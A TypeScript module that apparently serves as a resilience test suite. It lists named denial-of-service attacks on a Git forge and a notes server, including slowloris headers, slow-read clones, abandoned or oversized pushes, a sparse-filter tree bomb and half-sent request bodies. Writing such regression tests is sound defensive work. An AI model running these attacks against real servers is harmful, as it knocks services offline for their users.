import { type Attack, from, OPEN_MS, pause, untilClosed } from './attempt.ts';
import { emptyPack, fetchRequest, packHeader, pushCommands, unknownIds } from './packets.ts';
import type { RawConnection, ResponseHead } from './raw-http.ts';
import { SIGN_IN_ATTACKS } from './sign-in-attacks.ts';
import type { Targets } from './targets.ts';

const FETCH_TYPE = 'application/x-git-upload-pack-request';
const PUSH_TYPE = 'application/x-git-receive-pack-request';
const JSON_TYPE = 'application/json';
const UNKNOWN_TIPS = 2_000;
const HALF_FILE_BYTES = 100 * 1024 * 1024;
const HALF_NOTE_BYTES = 8 * 1024 * 1024;
const HALF_BODY_SENT_BYTES = 4 * 1024 * 1024;
const CRAWL_BYTES = 200;
const UPLOAD_BYTES = 20 * 1024;
const WALK_LEFT_AFTER_MS = 500;

/** Everything that stopped the server in the past, by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'fetch that stops after four bytes': async ({ targets, connection, address }) => {
    connection.request('POST', `/${targets.owner}/${targets.small}.git/git-upload-pack`, {
      ...from(address),
      'content-type': FETCH_TYPE,
      'content-length': '1000',
      'git-protocol': 'version=2',
    });
    connection.write('0014');
    return untilClosed(connection);
  },

  'clone that is read at a crawl': async ({ targets, connection, address, signal }) => {
    const { big, bigTip } = targets;
    fetchFrom(connection, { path: `/${targets.owner}/${big}.git`, address, body: fetchRequest(bigTip) });
    return crawl(connection, signal);
  },

  'push that stops after PACK': async ({ targets, connection, address, turn }) => {
    pushTo(connection, targets, { address });
    connection.write(chunk(pushCommands(unknownIds(1), `stopped-${turn}`)));
    connection.write(chunk(packHeader(1)));
    return untilClosed(connection);
  },

  'push that sends 20 KB a second': async ({ targets, connection, address, turn, signal }) => {
    pushTo(connection, targets, { address });
    connection.write(chunk(pushCommands(unknownIds(1), `slow-${turn}`)));
    for (let at = 0; connection.isOpen && !signal.aborted && at < targets.zeros.length; at += UPLOAD_BYTES) {
      connection.write(chunk(targets.zeros.subarray(at, at + UPLOAD_BYTES)));
      await pause(1_000, signal);
    }
    return untilClosed(connection);
  },

  'push of three GiB of zeros': async ({ targets, connection, address, turn }) => {
    pushTo(connection, targets, { address });
    connection.write(chunk(pushCommands(unknownIds(1), `zeros-${turn}`)));
    connection.write(chunk(targets.zeros));
    connection.write('0\r\n\r\n');
    return untilClosed(connection);
  },

  'push of tips that are not there': async ({ targets, connection, address, turn }) => {
    pushTo(connection, targets, { address });
    connection.write(chunk(pushCommands(unknownIds(UNKNOWN_TIPS), `missing-${turn}`)));
    connection.write(chunk(emptyPack()));
    connection.write('0\r\n\r\n');
    return untilClosed(connection);
  },

  'fetch with a sparse filter of a tree bomb': async ({ targets, connection, address }) => {
    const body = fetchRequest(targets.lairTip, { filter: `sparse:oid=${targets.patterns}` });
    fetchFrom(connection, { path: `/${targets.intruder.name}/lair.git`, address, body });
    return untilClosed(connection);
  },

  'half of a large file from a reader': async ({ targets, connection, address, turn }) => {
    sendHalf(connection, {
      path: `/api/v1/repos/${targets.owner}/${targets.small}/contents/half-${turn}`,
      bytes: HALF_FILE_BYTES,
      headers: { ...from(address), authorization: targets.intruder.authorization },
    });
    return untilClosed(connection);
  },

  'half of a large file from a writer': async ({ targets, connection, address, turn }) => {
    const { intruder } = targets;
    sendHalf(connection, {
      path: `/api/v1/repos/${intruder.name}/lair/contents/half-${turn}`,
      bytes: HALF_FILE_BYTES,
      headers: { ...from(address), authorization: intruder.authorization },
    });
    return untilClosed(connection);
  },

  'half of a note': async ({ targets, connection, address }) => {
    sendHalf(connection, {
      path: '/index.php/apps/notes/api/v1/notes',
      bytes: HALF_NOTE_BYTES,
      headers: { ...from(address), authorization: targets.intruder.authorization },
    });
    return untilClosed(connection);
  },

  'listing at an old commit, left early': async ({ targets, connection, address, turn, signal }) => {
    const { commits } = targets;
    const old = commits[(turn * 7_919) % commits.length] ?? '';
    const path = `/api/v1/repos/${targets.owner}/${targets.history}/contents/cards?ref=${old}`;
    connection.request('GET', path, from(address));
    await Promise.race([connection.head, pause(WALK_LEFT_AFTER_MS, signal)]);
    connection.end();
    return connection.head;
  },

  ...SIGN_IN_ATTACKS,

  'large file that is read at a crawl': async ({ targets, connection, address, signal }) => {
    const path = `/api/v1/repos/${targets.owner}/${targets.big}/raw/big.bin`;
    connection.request('GET', path, from(address));
    return crawl(connection, signal);
  },

  'headers that never end': async ({ connection, signal }) => {
    connection.write('GET / HTTP/1.1\r\nHost: localhost\r\n');
    const until = performance.now() + OPEN_MS;
    while (connection.isOpen && !signal.aborted && performance.now() < until) {
      connection.write('X-Slow: 1\r\n');
      await pause(1_000, signal);
    }
    connection.end();
    return connection.head;
  },
};

function fetchFrom(
  connection: RawConnection,
  request: { path: string; address: string; body: string },
): void {
  connection.request('POST', `${request.path}/git-upload-pack`, {
    ...from(request.address),
    'content-type': FETCH_TYPE,
    'content-length': String(Buffer.byteLength(request.body)),
    'git-protocol': 'version=2',
  });
  connection.write(request.body);
}

function pushTo(connection: RawConnection, targets: Targets, { address }: { address: string }): void {
  const { intruder } = targets;
  connection.request('POST', `/${intruder.name}/lair.git/git-receive-pack`, {
    ...from(address),
    authorization: intruder.authorization,
    'content-type': PUSH_TYPE,
    'transfer-encoding': 'chunked',
  });
}

function chunk(bytes: Uint8Array | string): Buffer {
  const content = typeof bytes === 'string' ? Buffer.from(bytes) : bytes;
  return Buffer.concat([Buffer.from(`${content.length.toString(16)}\r\n`), content, Buffer.from('\r\n')]);
}

function sendHalf(
  connection: RawConnection,
  request: { path: string; bytes: number; headers: Readonly<Record<string, string>> },
): void {
  connection.request('POST', request.path, {
    ...request.headers,
    'content-type': JSON_TYPE,
    'content-length': String(request.bytes),
  });
  connection.write('{"content":"');
  connection.write(Buffer.alloc(HALF_BODY_SENT_BYTES, 'A'));
}

/** Takes `CRAWL_BYTES` a second. */
async function crawl(connection: RawConnection, signal: AbortSignal): Promise<ResponseHead | undefined> {
  const { socket } = connection;
  socket.pause();
  const until = performance.now() + OPEN_MS;
  while (connection.isOpen && !signal.aborted && performance.now() < until) {
    await pause(1_000, signal);
    socket.read(CRAWL_BYTES);
  }
  connection.end();
  return connection.head;
}
